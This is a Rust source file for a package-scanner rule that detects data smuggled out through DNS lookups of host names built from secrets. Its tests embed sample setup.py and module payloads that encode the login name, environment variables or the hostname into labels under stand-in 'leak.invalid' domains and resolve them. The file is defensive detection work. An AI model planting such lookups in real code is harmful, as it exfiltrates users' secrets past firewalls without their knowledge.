//! `NET-004`: data leaves inside a host name that is looked up.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, command_lines, host_of, is_private, sends, spaced};
use super::{Rule, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Argument, Call, Flow, HOLE, Label, SinkKind};

/// The rule.
pub(super) struct DataInNames;

impl Rule for DataInNames {
    fn id(&self) -> &'static str {
        "NET-004"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "data is hidden in a host name that is looked up"
    }

    fn manual(&self) -> &'static str {
        "Data of the machine becomes a label of a host name under a fixed domain, and the \
         name is looked up or connected to.\n\n\
         Name servers pass such a question on through every firewall; whoever owns the \
         domain reads it. There is no other reason to build a name out of a secret.\n\n\
         Mistaken for it: clients whose host names contain a customer's account or \
         region, from the environment."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let is_telling = is_private(flow.label) || flow.label == Label::File;
            if !is_telling || !sends(flow.kind) || !is_in_name(analysis.sink(flow), flow) {
                continue;
            }
            let worst = if flow.hops > FAR {
                Severity::Medium
            } else {
                Severity::High
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!(
                "{} looks up a name that is made of {}",
                analysis.sink(flow).target,
                flow.what
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in analysis.calls() {
            if !command_lines(call).iter().any(|line| looks_up_data(line)) {
                continue;
            }
            let severity = in_context(Severity::High, call.context);
            let confidence = Confidence::of(85).in_context(call.context);
            let message = format!("{} looks up a name that is made of data", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

/// Whether the flow's argument is a host name, or an address with one, of which a part is not known
/// and the domain is.
fn is_in_name(sink: &Call, flow: &Flow) -> bool {
    let argument = |each: &&Argument| flow.argument.is_empty() || each.labels.has(flow.label);
    sink.arguments.iter().filter(argument).any(|each| {
        let texts = each.value.texts();
        texts.iter().any(|text| match host_of(text) {
            Some(host) => is_mixed(host),
            None => flow.kind == SinkKind::Resolve && is_mixed(text),
        })
    })
}

/// `?.evil.invalid`: something unknown under a domain of at least two known labels.
fn is_mixed(host: &str) -> bool {
    let Some((before, domain)) = host.rsplit_once(HOLE) else {
        return false;
    };
    let labels: Vec<&str> = domain
        .split('.')
        .filter(|label| !label.is_empty())
        .collect();
    let is_name = |label: &&str| {
        label
            .chars()
            .all(|each| each.is_ascii_alphanumeric() || each == '-')
    };
    before.len() < 200 && domain.contains('.') && labels.len() >= 2 && labels.iter().all(is_name)
}

const RESOLVERS: &[&str] = &[
    " nslookup ",
    " dig ",
    " host ",
    " ping ",
    " resolve-dnsname ",
    " drill ",
];
const MARKS: &[&str] = &[
    "$(",
    "`",
    "${",
    "%username%",
    "%computername%",
    "$env:",
    "$user",
    "$hostname",
];

fn looks_up_data(command: &str) -> bool {
    let line = spaced(command);
    let Some(start) = RESOLVERS.iter().filter_map(|word| line.find(word)).min() else {
        return false;
    };
    let mut words = line[start..].split(' ').filter(|word| word.contains('.'));
    words.any(|word| is_mixed(word) || MARKS.iter().any(|mark| line[start..].contains(mark)))
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn data_in_names_is_seen_however_it_gets_there() {
        for (path, code) in [
            (
                "setup.py",
                "import socket, os\nsocket.gethostbyname(os.getlogin().encode().hex() + '.leak.invalid.example')",
            ),
            (
                "demo/__init__.py",
                "import socket, os\nfor k, v in os.environ.items():\n    socket.getaddrinfo(f'{k}.{v}.a.leak.invalid', 80)",
            ),
            (
                "demo/__init__.py",
                "import dns.resolver, socket\ndns.resolver.resolve('%s.leak.invalid' % socket.gethostname(), 'A')",
            ),
            (
                "setup.py",
                "import os, socket\nos.system(f'nslookup {socket.gethostname()}.leak.invalid')",
            ),
            (
                "setup.py",
                "import os\nos.system('ping -c 1 $(whoami).leak.invalid')",
            ),
            (
                "demo/__init__.py",
                "import urllib.request as u, getpass\nu.urlopen('http://{}.leak.invalid/'.format(getpass.getuser()))",
            ),
        ] {
            found("NET-004", path, code);
        }
    }

    #[test]
    fn names_that_are_looked_up_plainly_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import socket\nsocket.gethostbyname(socket.gethostname())",
            ),
            (
                "demo/__init__.py",
                "import socket\ndef find(domain):\n    return socket.getaddrinfo('_xmpp._tcp.' + domain, 0)",
            ),
            (
                "demo/__init__.py",
                "import os\nos.system('ping -c 1 host.invalid')",
            ),
        ] {
            quiet("NET-004", path, code);
        }
    }
}
